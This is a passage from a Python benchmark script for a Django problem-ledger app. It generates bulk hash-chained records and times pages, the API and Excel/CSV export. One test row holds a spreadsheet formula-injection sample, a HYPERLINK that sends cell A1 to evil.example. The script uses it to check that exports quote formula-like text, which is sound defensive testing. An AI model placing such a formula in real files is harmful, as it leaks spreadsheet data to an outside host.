"""Benchmark the ledger at scale: generate N problems, then time the ledger page, the list
endpoint, the Excel export and the Excel import.

    createdb -h 127.0.0.1 -U postgres bench_ledger      # or pass --create-db
    DATABASE_URL=postgres://postgres@127.0.0.1:5432/bench_ledger \\
        .venv/bin/python bench/ledger.py --problems 1000000

The generator is a *benchmark generator*: it bypasses the ledger services and writes problems
and their events with COPY (PostgreSQL) or bulk_create (SQLite) in batches, because a million
service calls would take hours. The rows it writes are still whole: every problem has the
events that lead to its state, hash-chained like the services chain them, so
``manage.py verify_ledger`` passes on the benchmark database too. It only ever runs against a
database whose name contains "bench" (it adds a demo city and a million problems to it).

Running it again reuses the problems already there and adds only the missing ones.
Targets (issue 3): at 1M problems on PostgreSQL, page and endpoint p95 under 150 ms; a
100,000-row export under 15 s with peak memory under 250 MB.
"""

import argparse
import datetime
import html
import importlib
import io
import json
import logging
import os
import random
import re
import statistics
import sys
import tempfile
import threading
import time
import types
import warnings
from pathlib import Path
from urllib.parse import urlencode

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings")
# Production-like settings: DEBUG off (no query log, no debug templates); the test client's
# host allowed; a throwaway key (the benchmark signs nothing that outlives it).
os.environ.setdefault("DEBUG", "0")
os.environ.setdefault("SECRET_KEY", "benchmark-only-secret-key-0123456789-abcdefghijkl")
os.environ.setdefault("ALLOWED_HOSTS", "testserver,localhost")
os.environ.setdefault("SECURE_COOKIES", "0")

import django  # noqa: E402

django.setup()

from django.conf import settings  # noqa: E402

# Requests reuse one database connection, as production does with CONN_MAX_AGE (the test
# client would otherwise close it after every request and time the reconnection too).
from django.core.signals import request_finished, request_started  # noqa: E402
from django.db import close_old_connections  # noqa: E402

request_started.disconnect(close_old_connections)
request_finished.disconnect(close_old_connections)
logging.getLogger("axes").setLevel(logging.WARNING)
warnings.filterwarnings("ignore", message="No directory at")

# Pages render without a collectstatic manifest (as in the tests); static URLs cost the same.
settings.STORAGES = {**settings.STORAGES,
                     "staticfiles": {"BACKEND": "django.contrib.staticfiles.storage.StaticFilesStorage"}}
from django.db import connection, transaction  # noqa: E402
from django.test import Client  # noqa: E402
from django.test.utils import CaptureQueriesContext  # noqa: E402
from django.urls import NoReverseMatch, reverse  # noqa: E402
from django.utils import timezone  # noqa: E402

from campaign.demo import demo_city_build  # noqa: E402
from campaign.models import District, SamplePoint, User  # noqa: E402
from ledger.choices import Action, Severity, Source, Status  # noqa: E402
from ledger.demo import PHRASES, REJECTIONS, _rectification, _where  # noqa: E402
from ledger.integrity import STATE_FIELDS, encode_field  # noqa: E402
from ledger.models import Problem, ProblemCounter, ProblemEvent, current_hash_scheme  # noqa: E402
from ledger.views.problems import COUNT_LIMIT  # noqa: E402

SEED = 1_000_000
BATCH = 20_000
YEARS = 3  # the generated ledger spans the last three years
TARGET_MS = 150
PAGE_TARGET = 3.0  # issue 13: the ledger page within 3x its floor,
API_TARGET = 2.0  # the list endpoint within 2x


def say(message: str = "") -> None:
    print(message, flush=True)


# --- The database --------------------------------------------------------------------------------


def database_name() -> str:
    return str(settings.DATABASES["default"]["NAME"])


def is_postgres() -> bool:
    return connection.vendor == "postgresql"


def create_database() -> None:
    """CREATE DATABASE the benchmark's database on the same server (PostgreSQL)."""
    import psycopg

    db = settings.DATABASES["default"]
    name = db["NAME"]
    with psycopg.connect(host=db.get("HOST") or None, port=db.get("PORT") or None, user=db.get("USER") or None,
                         password=db.get("PASSWORD") or None, dbname="postgres", autocommit=True) as conn:
        if conn.execute("SELECT 1 FROM pg_database WHERE datname = %s", [name]).fetchone():
            say(f"database {name} exists")
        else:
            conn.execute(f'CREATE DATABASE "{name}"')
            say(f"database {name} created")


def prepare(create_db: bool) -> None:
    from django.core.management import call_command

    if "bench" not in database_name():
        sys.exit(f"Refusing to run against {database_name()!r}: use a database whose name contains 'bench'.")
    if create_db and settings.DATABASES["default"]["ENGINE"] == "django.db.backends.postgresql":
        create_database()
    call_command("migrate", verbosity=0)
    if not SamplePoint.objects.filter(code__startswith="SP-D0").exists():
        started = time.perf_counter()
        demo_city_build(password=os.environ.get("DEMO_PASSWORD", "demo"))
        say(f"demo city built in {time.perf_counter() - started:.1f} s")


# --- Generating ------------------------------------------------------------------------------------


class Generator:
    """Problems with a realistic spread: over three years, more on weekdays and inspection days,
    most old ones closed, the recent ones open, a few long-open ones overdue; each with the
    events that lead to its state."""

    def __init__(self, rng: random.Random):
        self.rng = rng
        self.points = list(SamplePoint.objects.filter(code__startswith="SP-D0")
                           .select_related("category", "district", "responsible_unit", "team"))
        users = {u.username: u for u in User.objects.filter(username__in=["hq", "inspector", "district", "unit"])}
        self.hq, self.inspector = users["hq"], users["inspector"]
        self.district_lead, self.handler = users["district"], users["unit"]
        self.now = timezone.now()
        self.today = timezone.localdate(self.now)
        self.days = YEARS * 365
        self.counters = dict(ProblemCounter.objects.values_list("year", "last"))
        weights = {"KP-MARKET": 3.0, "KP-OLDRES": 2.5, "KP-VILLAGE": 2.5, "KP-ALLEY": 2.0, "KP-TOILET": 1.5,
                   "KP-SITE": 1.5, "KP-SIX": 1.0, "KP-CATER": 1.0}
        self.point_weights = [weights.get(p.category.code, 1.0) * rng.uniform(0.3, 1.7) for p in self.points]
        self.cum_weights = []
        total = 0.0
        for w in self.point_weights:
            total += w
            self.cum_weights.append(total)
        self.fields = [f for f in Problem._meta.concrete_fields]
        self.columns = [f.column for f in self.fields]
        self.event_columns = ["problem_id", "seq", "action", "from_status", "to_status", "actor_id", "at", "note",
                              "data", "prev_hash", "hash", "hash_scheme"]

    def _found_at(self) -> datetime.datetime:
        rng = self.rng
        while True:
            age = int(rng.random() ** 1.3 * self.days)  # a campaign finds more as it goes on
            day = self.today - datetime.timedelta(days=age)
            weekday = day.weekday()
            keep = {1: 1.0, 3: 0.9, 5: 0.1, 6: 0.05}.get(weekday, 0.4)
            if rng.random() < keep:
                break
        minute = rng.randint(8 * 60 + 30, 17 * 60 + 30)
        moment = timezone.make_aware(datetime.datetime.combine(day, datetime.time()) + datetime.timedelta(minutes=minute))
        return min(moment, self.now - datetime.timedelta(minutes=5))

    def _status(self, age_days: int) -> str:
        rng = self.rng
        if age_days > 30:
            weights = (0.5, 1, 3, 0.5, 92, 3)
        else:
            closed = 10 + age_days * 2.6
            weights = (max(1, 14 - age_days * 0.4), 10, 25, 10, closed, 3)
        return rng.choices(Status.values, weights=weights)[0]

    def _code(self, year: int) -> str:
        number = self.counters.get(year, 0) + 1
        self.counters[year] = number
        return f"{year}-{number:06d}"

    def problem(self, pk: int) -> tuple[dict, list[dict]]:
        rng = self.rng
        point = self.points[self._pick_point()]
        found_at = self._found_at()
        age = (self.today - timezone.localdate(found_at)).days
        status = self._status(age)
        phrase, severity = rng.choice(PHRASES[point.category.code])
        description = f"{_where(point.category.code, rng)}{phrase}"
        found_by = self.inspector if point.district.code == "D01" and rng.random() < 0.4 else self.hq
        row = {
            "id": pk, "code": self._code(timezone.localtime(found_at).year), "description": description,
            "category_id": point.category_id, "sample_point_id": point.pk, "district_id": point.district_id,
            "address": point.address, "latitude": point.latitude, "longitude": point.longitude,
            "source": rng.choice(Source.values), "source_ref": "", "found_at": found_at, "found_by_id": found_by.pk,
            "severity": severity, "responsible_unit_id": point.responsible_unit_id, "team_id": point.team_id,
            "deadline": None, "status": status, "problem_class_id": None, "rebound_of_id": None,
            "duplicate_of_id": None, "assigned_at": None, "closing_applied_at": None,
            "closing_applied_by_id": None, "closed_at": None, "rectification_note": "", "rejection_count": 0,
            "last_rejection_reason": "", "invalid_reason": "", "version": 1, "last_event_hash": "",
            "updated_at": found_at,
        }
        events = [self._event(row, Action.RECORD, "", Status.FOUND, found_by, found_at)]
        t = found_at
        if status == Status.INVALID:
            t = self._later(t, 2, 48)
            row["invalid_reason"] = "经核实，所述问题不存在"
            events.append(self._event(row, Action.INVALIDATE, Status.FOUND, Status.INVALID, self.hq, t,
                                      row["invalid_reason"]))
        elif status != Status.FOUND:
            t = self._later(t, 1, 30)
            days = {Severity.GENERAL: 7, Severity.SERIOUS: 3, Severity.URGENT: 1}[severity]
            row["assigned_at"], row["deadline"] = t, timezone.localdate(t) + datetime.timedelta(days=days)
            events.append(self._event(row, Action.ASSIGN, Status.FOUND, Status.ASSIGNED, self.hq, t,
                                      data={"unit": point.responsible_unit_id, "deadline": row["deadline"].isoformat()}))
            if status != Status.ASSIGNED:
                t = self._later(t, 1, 20)
                events.append(self._event(row, Action.ACKNOWLEDGE, Status.ASSIGNED, Status.RECTIFYING, self.handler, t))
            if status in (Status.CLOSING_APPLIED, Status.CLOSED):
                note = _rectification(description)
                if rng.random() < 0.1:
                    t = self._later(t, 24, 24 * days)
                    row["rectification_note"], row["closing_applied_at"] = note, t
                    row["closing_applied_by_id"] = self.handler.pk
                    events.append(self._event(row, Action.APPLY_CLOSE, Status.RECTIFYING, Status.CLOSING_APPLIED,
                                              self.handler, t, note))
                    t = self._later(t, 4, 72)
                    reason = rng.choice(REJECTIONS)
                    row["rejection_count"], row["last_rejection_reason"] = 1, reason
                    row["closing_applied_at"] = row["closing_applied_by_id"] = None
                    events.append(self._event(row, Action.REJECT, Status.CLOSING_APPLIED, Status.RECTIFYING,
                                              self.district_lead, t, reason))
                t = self._later(t, 24, 24 * days * 1.3)
                row["rectification_note"], row["closing_applied_at"] = note, t
                row["closing_applied_by_id"] = self.handler.pk
                events.append(self._event(row, Action.APPLY_CLOSE, Status.RECTIFYING, Status.CLOSING_APPLIED,
                                          self.handler, t, note))
                if status == Status.CLOSED:
                    t = self._later(t, 4, 72)
                    row["closed_at"] = t
                    events.append(self._event(row, Action.APPROVE, Status.CLOSING_APPLIED, Status.CLOSED,
                                              self.district_lead, t, "复查合格，予以销号"))
        row["version"] = len(events)
        row["updated_at"] = t
        return row, events

    def _pick_point(self) -> int:
        import bisect

        return bisect.bisect_left(self.cum_weights, self.rng.random() * self.cum_weights[-1])

    def _later(self, moment, low_hours, high_hours):
        later = moment + datetime.timedelta(hours=self.rng.uniform(low_hours, high_hours))
        return min(later, self.now - datetime.timedelta(minutes=1))

    def _event(self, row, action, from_status, to_status, actor, at, note="", data=None) -> dict:
        """The next event of ``row``, carrying the fields changed since the event before (all
        of them on the record event), as ledger.services writes them (ledger/integrity.py)."""
        seq = getattr(self, "_seq", {}).get(row["id"], 0) + 1
        self._seq = {row["id"]: seq}
        now = {f.name: encode_field(f.name, row.get(f.attname, f.get_default())) for f in STATE_FIELDS}
        now["status"] = str(to_status)
        before = getattr(self, "_fields", {}).get(row["id"], {})
        fields = {name: value for name, value in now.items() if seq == 1 or before.get(name) != value}
        self._fields = {row["id"]: now}
        data = {**(data or {}), **({"fields": fields} if fields else {})}
        event = types.SimpleNamespace(
            problem_id=row["id"], seq=seq, action=str(action), from_status=str(from_status), to_status=str(to_status),
            actor_id=actor.pk, at=at, note=note, data=data, prev_hash=row["last_event_hash"],
            hash_scheme=current_hash_scheme(),
        )
        event.hash = ProblemEvent.compute_hash(event)
        row["last_event_hash"] = event.hash
        return vars(event)

    # Writing

    def write(self, count: int) -> None:
        first = (Problem.objects.order_by("-id").values_list("id", flat=True).first() or 0) + 1
        written, started = 0, time.perf_counter()
        while written < count:
            size = min(BATCH, count - written)
            rows, events = [], []
            for pk in range(first + written, first + written + size):
                row, row_events = self.problem(pk)
                rows.append(row)
                events.extend(row_events)
            with transaction.atomic():
                (self._copy if is_postgres() else self._bulk)(rows, events)
                self._save_counters()
            written += size
            rate = written / (time.perf_counter() - started)
            say(f"  {written:,} / {count:,} problems ({rate:,.0f}/s)")
        if is_postgres():
            with connection.cursor() as cursor:
                cursor.execute("SELECT setval(pg_get_serial_sequence('ledger_problem', 'id'), "
                               "(SELECT max(id) FROM ledger_problem))")
                cursor.execute("ANALYZE ledger_problem")
                cursor.execute("ANALYZE ledger_problemevent")

    def _copy(self, rows, events) -> None:
        raw = connection.connection
        with raw.cursor() as cursor:
            with cursor.copy(f"COPY ledger_problem ({', '.join(self.columns)}) FROM STDIN") as copy:
                for row in rows:
                    copy.write_row([row.get(f.attname, f.get_default()) for f in self.fields])
            with cursor.copy(f"COPY ledger_problemevent ({', '.join(self.event_columns)}) FROM STDIN") as copy:
                for event in events:
                    values = [event[c] for c in self.event_columns]
                    values[8] = json.dumps(event["data"], ensure_ascii=False)
                    copy.write_row(values)

    def _bulk(self, rows, events) -> None:
        Problem.objects.bulk_create([Problem(**row) for row in rows], batch_size=2000)
        ProblemEvent.objects.bulk_create([ProblemEvent(**event) for event in events], batch_size=2000)

    def _save_counters(self) -> None:
        for year, last in self.counters.items():
            ProblemCounter.objects.update_or_create(year=year, defaults={"last": last})


# --- Measuring -------------------------------------------------------------------------------------


def percentile(values, share):
    ordered = sorted(values)
    index = min(len(ordered) - 1, max(0, round(share * (len(ordered) - 1))))
    return ordered[index]


class Timings:
    def __init__(self, runs: int, explain: bool):
        self.runs, self.explain, self.rows = runs, explain, []

    def measure(self, client: Client, label: str, url: str, *, json_api: bool = False, floor=None,
                subselect_floor=None, target: float | None = None) -> object:
        """Time ``url`` and, in the same loop (alternating, so both see the same machine), its
        floor: ``floor`` is a callable running the least work that gives the same rows (the
        SELECT with its joins); ``subselect_floor`` the same rows with their names by subselects."""
        response = client.get(url)  # warm-up; also checks the page works
        if response.status_code != 200:
            self.rows.append((label, None, None, None, None, None, None, f"HTTP {response.status_code}"))
            return None
        with CaptureQueriesContext(connection) as capture:
            client.get(url)
        queries = list(capture.captured_queries)  # read now: the next request clears the log
        if floor is not None:
            floor()  # warm-up
        if subselect_floor is not None:
            subselect_floor()
        times, floors, subselect_floors = [], [], []
        for _ in range(self.runs):
            started = time.perf_counter()
            response = client.get(url)
            times.append((time.perf_counter() - started) * 1000)
            if floor is not None:
                started = time.perf_counter()
                floor()
                floors.append((time.perf_counter() - started) * 1000)
            if subselect_floor is not None:
                started = time.perf_counter()
                subselect_floor()
                subselect_floors.append((time.perf_counter() - started) * 1000)
        p50, p95 = statistics.median(times), percentile(times, 0.95)
        floor_p50 = statistics.median(floors) if floors else None
        ratio = p50 / floor_p50 if floor_p50 else None
        subselect_p50 = statistics.median(subselect_floors) if subselect_floors else None
        notes = []
        if p95 >= TARGET_MS:
            notes.append("SLOW")
        if ratio is not None and target is not None and ratio > target:
            notes.append(f"over {target:g}x")
        self.rows.append((label, p50, p95, floor_p50, ratio, subselect_p50, len(queries), " ".join(notes)))
        if p95 >= TARGET_MS and self.explain and is_postgres():
            self._explain(label, queries)
        return response.json() if json_api else response.content.decode()

    def _explain(self, label, queries) -> None:
        if not queries:
            return
        slowest = max(queries, key=lambda q: float(q["time"]))
        say(f"\n--- EXPLAIN ANALYZE, slowest query of {label} ({float(slowest['time']) * 1000:.0f} ms) ---")
        say(re.sub(r"^SELECT .*? FROM ", "SELECT … FROM ", slowest["sql"], count=1))
        with connection.cursor() as cursor:
            cursor.execute("EXPLAIN (ANALYZE, BUFFERS) " + slowest["sql"])
            for (line,) in cursor.fetchall():
                say(line)

    def report(self, title: str) -> None:
        say(f"\n{title}")
        say(f"  {'case':<44} {'p50 ms':>8} {'p95 ms':>8} {'floor ms':>9} {'ratio':>6} {'queries':>8} "
            f"{'subselect floor ms':>19} {'ratio':>6}")
        for label, p50, p95, floor, ratio, subselect, queries, note in self.rows:
            if p50 is None:
                say(f"  {label:<44} {'-':>8} {'-':>8} {'-':>9} {'-':>6} {'-':>8}  {note}")
            else:
                floor_text = f"{floor:9.2f}" if floor is not None else f"{'-':>9}"
                ratio_text = f"{ratio:5.1f}x" if ratio is not None else f"{'-':>6}"
                sub_text = (f"{subselect:19.2f} {p50 / subselect:5.1f}x" if subselect
                            else f"{'-':>19} {'-':>6}")
                say(f"  {label:<44} {p50:8.1f} {p95:8.1f} {floor_text} {ratio_text} {queries:8d} {sub_text}  {note}")
        self.rows = []


# --- Floors: the least work that gives a page's rows ---------------------------------------------
# One hand-written SELECT of the same 51 rows (a page and the probe for the next) with the joins
# the list shows, through a raw cursor: no ORM, no template, no serializer, no session.

FLOOR_SQL = """
SELECT p.id, p.code, p.description, p.status, p.severity, p.source, p.rejection_count, p.found_at,
       p.deadline, p.closed_at, p.address, p.version, p.problem_class_id, p.rebound_of_id,
       d.id, d.name, d.name_en, c.id, c.name_zh, c.name_en, u.id, u.name, u.name_en,
       sp.id, sp.code, sp.name, t.id, t.name, t.name_en
  FROM ledger_problem p
  JOIN campaign_district d ON d.id = p.district_id
  JOIN campaign_category c ON c.id = p.category_id
  LEFT JOIN campaign_unit u ON u.id = p.responsible_unit_id
  LEFT JOIN campaign_samplepoint sp ON sp.id = p.sample_point_id
  LEFT JOIN campaign_team t ON t.id = p.team_id
 WHERE {where}
 ORDER BY {order}
 LIMIT 51
"""
# The same rows with each related name read by a scalar subselect, as the app reads them
# (campaign.expressions.RelatedColumn): printed beside the join floor so that a ratio won by the
# SQL's shape (planning a six-way join costs ~7 ms on every request) can be told from one won
# in Python.
FLOOR_SUBSELECT_SQL = """
SELECT p.id, p.code, p.description, p.status, p.severity, p.source, p.rejection_count, p.found_at,
       p.deadline, p.closed_at, p.address, p.version, p.problem_class_id, p.rebound_of_id,
       p.district_id, (SELECT r.name FROM campaign_district r WHERE r.id = p.district_id),
       (SELECT r.name_en FROM campaign_district r WHERE r.id = p.district_id),
       p.category_id, (SELECT r.name_zh FROM campaign_category r WHERE r.id = p.category_id),
       (SELECT r.name_en FROM campaign_category r WHERE r.id = p.category_id),
       p.responsible_unit_id, (SELECT r.name FROM campaign_unit r WHERE r.id = p.responsible_unit_id),
       (SELECT r.name_en FROM campaign_unit r WHERE r.id = p.responsible_unit_id),
       p.sample_point_id, (SELECT r.name FROM campaign_samplepoint r WHERE r.id = p.sample_point_id),
       p.team_id, (SELECT r.name FROM campaign_team r WHERE r.id = p.team_id),
       (SELECT r.name_en FROM campaign_team r WHERE r.id = p.team_id)
  FROM ledger_problem p
 WHERE {where}
 ORDER BY {order}
 LIMIT 51
"""
# The count a page that runs on asks for after its rows (ledger problem_count): the matches
# counted as far as the list counts them (COUNT_LIMIT, then "more than").
FLOOR_COUNT_SQL = """
SELECT COUNT(*) FROM (SELECT p.id FROM ledger_problem p WHERE {where} LIMIT {limit}) counted
"""
NEWEST_FIRST = "p.found_at DESC, p.id DESC"
OPEN = "p.status IN ('found', 'assigned', 'rectifying', 'closing_applied')"


def floor_query(params: dict, user: User, after: tuple | None = None, sql: str = FLOOR_SQL) -> tuple[str, list]:
    """The floor's SQL for a case's filters (written by hand for each filter the cases use)."""
    where, args, order = ["TRUE"], [], NEWEST_FIRST
    if user.role == "district_lead":
        where.append("p.district_id = %s")
        args.append(user.district_id)
    if "status" in params:
        where.append("p.status = %s")
        args.append(params["status"])
    if "district" in params:
        where.append("p.district_id = %s")
        args.append(params["district"])
    if params.get("overdue") == "true":
        where.append(f"{OPEN} AND p.deadline < %s")
        args.append(timezone.localdate())
    if params.get("open") == "true":
        where.append(OPEN)
    if "q" in params:
        # As the trigram indexes of ledger migration 0005 are written: UPPER(col::text) LIKE; the
        # few matching points are passed as ids (a join inside the OR would scan the ledger).
        where.append("(UPPER(p.code::text) LIKE UPPER(%s) OR UPPER(p.description::text) LIKE UPPER(%s)"
                     " OR UPPER(p.address::text) LIKE UPPER(%s) OR p.sample_point_id = ANY(%s))")
        args += [f"%{params['q']}%"] * 3 + [POINT_IDS]
    if params.get("sort") == "deadline":
        order = "p.deadline ASC NULLS LAST, p.id ASC"
    if after is not None:
        where.append("(p.found_at, p.id) < (%s, %s)")
        args += list(after)
    return sql.format(where=" AND ".join(where), order=order, limit=COUNT_LIMIT + 1), args


POINT_IDS = object()  # stands for the ids of the sample points whose name matches the search


def floor_runner(params: dict, user: User, after: tuple | None = None, subselects: bool = False,
                 sql: str | None = None):
    sql, args = floor_query(params, user, after, sql or (FLOOR_SUBSELECT_SQL if subselects else FLOOR_SQL))

    def run():
        with connection.cursor() as cursor:
            values = list(args)
            if POINT_IDS in values:
                cursor.execute("SELECT id FROM campaign_samplepoint WHERE UPPER(name::text) LIKE UPPER(%s)",
                               [f"%{params['q']}%"])
                values[values.index(POINT_IDS)] = [row[0] for row in cursor.fetchall()]
            cursor.execute(sql, values)
            return cursor.fetchall()
    return run


def floor_page_end(user: User) -> tuple | None:
    """found_at and id of the 50th row of the unfiltered first page: where the second starts."""
    rows = floor_runner({}, user)()
    return (rows[49][7], rows[49][0]) if len(rows) > 50 else None


COUNT_URL = re.compile(r'data-count-url="([^"]+)"')
NEXT_LINK = re.compile(r'href="([^"]*[?&](?:amp;)?cursor=[^"]*)"')


def next_page_url(page_html: str, base: str) -> str | None:
    links = [html.unescape(m) for m in NEXT_LINK.findall(page_html or "")]
    if not links:
        return None
    link = links[-1]  # on a first page, the only cursor link is "next"
    return link if link.startswith("/") else base + link


def filter_cases(district: District) -> list[tuple[str, dict]]:
    return [
        ("no filter", {}),
        ("status=rectifying", {"status": Status.RECTIFYING}),
        (f"district={district.code}", {"district": district.pk}),
        ("overdue", {"overdue": "true"}),
        ("search 捕蝇笼 (common)", {"q": "捕蝇笼"}),
        ("search 垃圾分类亭 (no match)", {"q": "垃圾分类亭"}),
        ("open + sort by deadline", {"open": "true", "sort": "deadline"}),
    ]


def settle_as_a_server(users: dict) -> None:
    """The process's heap as a server's after its first requests (config.heap, which
    config/wsgi.py runs): the application loaded, the pages' templates compiled, then frozen."""
    from config.heap import settle

    for user in users.values():
        client = Client()
        client.force_login(user)
        for url in ("/ledger/problems/", "/ledger/problems/?q=x", "/api/problems/"):
            client.get(url)
    settle()


def bench_pages(timings: Timings, users: dict) -> None:
    try:
        base = reverse("ledger:problem_list")
    except NoReverseMatch:
        say("\nLedger page: not measurable yet (no ledger:problem_list route).")
        return
    district = District.objects.get(code="D02")
    for who, user in users.items():
        client = Client()
        client.force_login(user)
        first = None
        for label, params in filter_cases(district if who == "HQ" else user.district):
            url = base + ("?" + urlencode(params) if params else "")
            body = timings.measure(client, f"{who}: {label}", url, floor=floor_runner(params, user),
                                   subselect_floor=floor_runner(params, user, subselects=True),
                                   target=PAGE_TARGET)
            if label == "no filter":
                first = body
            count_url = COUNT_URL.search(body or "")
            if count_url:  # the rows came first; the page then asks for their count
                timings.measure(client, f"{who}: {label}, its count (asked after)", html.unescape(count_url.group(1)),
                                floor=floor_runner(params, user, sql=FLOOR_COUNT_SQL), target=PAGE_TARGET)
        following = next_page_url(first, base)
        if following:
            timings.measure(client, f"{who}: second page (next cursor)", following,
                            floor=floor_runner({}, user, floor_page_end(user)),
                            subselect_floor=floor_runner({}, user, floor_page_end(user), subselects=True),
                            target=PAGE_TARGET)
        else:
            timings.rows.append((f"{who}: second page (next cursor)", None, None, None, None, None, None,
                                 "no next link found"))
    timings.report(f"Ledger page {base} ({timings.runs} requests per case; floor: one SELECT of the 51 rows, "
                   f"target ≤ {PAGE_TARGET:g}x)")


def bench_api(timings: Timings, users: dict) -> None:
    base = "/api/problems/"
    probe = Client()
    probe.force_login(users["HQ"])
    if probe.get(base).status_code == 404:
        say(f"\nList endpoint {base}: not measurable yet (404).")
        return
    district = District.objects.get(code="D02")
    for who, user in users.items():
        client = Client()
        client.force_login(user)
        first = None
        for label, params in filter_cases(district if who == "HQ" else user.district):
            params = {k: v for k, v in params.items() if k != "sort"}
            url = base + ("?" + urlencode(params) if params else "")
            body = timings.measure(client, f"{who}: {label}", url, json_api=True,
                                   floor=floor_runner(params, user),
                                   subselect_floor=floor_runner(params, user, subselects=True), target=API_TARGET)
            if label == "no filter":
                first = body
        following = (first or {}).get("next") if isinstance(first, dict) else None
        if following:
            timings.measure(client, f"{who}: second page (next link)", following.replace("http://testserver", ""),
                            json_api=True, floor=floor_runner({}, user, floor_page_end(user)),
                            subselect_floor=floor_runner({}, user, floor_page_end(user), subselects=True),
                            target=API_TARGET)
        else:
            timings.rows.append((f"{who}: second page (next link)", None, None, None, None, None, None,
                                 "no next link"))
    timings.report(f"List endpoint {base} ({timings.runs} requests per case; floor: one SELECT of the 51 rows, "
                   f"target ≤ {API_TARGET:g}x)")


class PeakRSS:
    """The process's resident memory, sampled every 20 ms while the block runs."""

    def __init__(self):
        self.peak = self.start = self._rss()
        self._stop = threading.Event()

    @staticmethod
    def _rss() -> int:
        try:
            with open("/proc/self/statm") as statm:
                return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
        except OSError:  # not Linux
            import resource

            return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024

    def _watch(self):
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, self._rss())

    def __enter__(self):
        self._thread = threading.Thread(target=self._watch, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()
        self.peak = max(self.peak, self._rss())


def find_function(candidates):
    for module_name, name in candidates:
        try:
            module = importlib.import_module(module_name)
        except ImportError:
            continue
        function = getattr(module, name, None)
        if callable(function):
            return f"{module_name}.{name}", function
    return None, None


EXPORTERS = (("ledger.excel", "write_ledger"), ("ledger.excel", "export_problems"),
             ("ledger.transfer.export", "write_ledger"))


def _timed(function, *args, repeats: int = 1, **kwargs):
    """(seconds, peak RSS growth in bytes, result) of the best of ``repeats`` calls (the
    machine is shared: the best run is the one least disturbed)."""
    best = None
    for _run in range(repeats):
        with PeakRSS() as memory:
            started = time.perf_counter()
            result = function(*args, **kwargs)
            seconds = time.perf_counter() - started
        if best is None or seconds < best[0]:
            best = (seconds, memory.peak - memory.start, result)
    return best


def _raw_read(queryset) -> int:
    """The floor of reading: the export's own SELECT through a server-side cursor, no Python
    per row beyond fetching it."""
    from ledger.transfer import export as exporting

    sql, params = exporting.export_rows(queryset).query.sql_with_params()
    count = 0
    with transaction.atomic(), connection.cursor() as plain:
        cursor = plain.connection.cursor(name="bench_export_floor") if is_postgres() else plain
        cursor.execute(sql, params)
        while batch := cursor.fetchmany(exporting.CHUNK_SIZE):
            count += len(batch)
        cursor.close()
    return count


# Text that must stay text: the writers below are floors only if they pass the same checks.
CHECK_ROW = [1, "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")", datetime.date(2026, 9, 18), "甲区",
             "-5 apples", "'=quoted", "#N/A", 3.25, None]


def _is_special(value) -> bool:
    return isinstance(value, str) and value[:1] in "=+-@\t\r\n＝＋－＠'"


def _floor_rust(rows, path) -> None:
    import rvgsrust_xlsxwriter as rust_xlsx

    workbook = rust_xlsx.Workbook()
    sheet = workbook.add_worksheet("问题台账", constant_memory=True)
    quoted = rust_xlsx.Format().set_quote_prefix()
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
        for column, value in enumerate(row):
            if _is_special(value):
                sheet.write(number, column, value, quoted)
    workbook.close(path)


def _floor_xlsxwriter(rows, path) -> None:
    import xlsxwriter

    workbook = xlsxwriter.Workbook(path, {"constant_memory": True, "strings_to_formulas": False,
                                          "strings_to_urls": False, "default_date_format": "yyyy-mm-dd"})
    sheet = workbook.add_worksheet("问题台账")
    quoted = workbook.add_format({"quote_prefix": True})
    for number, row in enumerate(rows):
        sheet.write_row(number, 0, row)
        for column, value in enumerate(row):
            if _is_special(value):
                sheet.write_string(number, column, value, quoted)
    workbook.close()


def _floor_csv(rows, path) -> None:
    import csv

    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write("\ufeff")
        writer = csv.writer(out)
        for row in rows:
            writer.writerow(["'" + value if _is_special(value) else value for value in row])


def _check_xlsx(path) -> str:
    """"ok" when the file reads back as the export must: text (never a formula, the formula-like
    with the quote prefix), the date a date, the number a number, Chinese intact."""
    import openpyxl

    cells = list(openpyxl.load_workbook(path).active.iter_rows())[0]
    problems = []
    if any(cell.data_type in ("f", "e") for cell in cells):
        problems.append("a formula or error cell")
    if not all(cells[i].quotePrefix and cells[i].data_type == "s" for i in (1, 4, 5)):
        problems.append("formula-like text without the quote prefix")
    if not (cells[2].is_date and cells[2].value == datetime.datetime(2026, 9, 18)):
        problems.append(f"date read as {cells[2].value!r}")
    if cells[3].value != "甲区" or cells[7].value != 3.25 or cells[0].value != 1:
        problems.append("text or number changed")
    return "ok" if not problems else "FAILS: " + ", ".join(problems)


def bench_export(rows: int, hq: User) -> Path | None:
    """The app's export (xlsx and CSV) beside its floors measured in the same run: a raw
    cursor read of the same rows, and the fastest writers (rust_xlsxwriter as the app uses
    it, xlsxwriter in constant-memory mode, the csv module) writing the same cells from
    memory. Only writers that pass the checks count as floors."""
    from ledger.transfer import export as exporting

    queryset = Problem.objects.visible_to(hq).order_by("-found_at", "-id")[:rows]
    mb = 1024 * 1024
    scratch = Path(tempfile.mkdtemp(prefix="bench-ledger-export-"))
    repeats = 3 if rows <= 20_000 else 1
    say(f"\nExport ({rows:,} rows asked, Chinese template; seconds (best of {repeats}), peak RSS growth)")
    _raw_read(queryset)  # warm the database's cache, so that neither side pays for a cold one
    app_xlsx = _timed(exporting.write_ledger, queryset, str(scratch / "app.xlsx"), language="zh-hans",
                      repeats=repeats)
    written = app_xlsx[2]

    def app_csv():
        with open(scratch / "app.csv", "w", encoding="utf-8", newline="") as out:
            return exporting.write_ledger_csv(queryset, out, language="zh-hans")

    app_csv_run = _timed(app_csv, repeats=repeats)
    read = _timed(_raw_read, queryset, repeats=repeats)
    # The same cells, prepared once in memory for the writer floors.
    names = exporting.labels()
    cells = [exporting.problem_cells(n, row, False, names)
             for n, row in enumerate(exporting.export_rows(queryset).iterator(chunk_size=2000), start=1)]
    floors = {}
    for label, writer, suffix in (("rust_xlsxwriter (rvgsrust-xlsxwriter)", _floor_rust, "xlsx"),
                                  ("xlsxwriter constant_memory", _floor_xlsxwriter, "xlsx"),
                                  ("csv module", _floor_csv, "csv")):
        try:
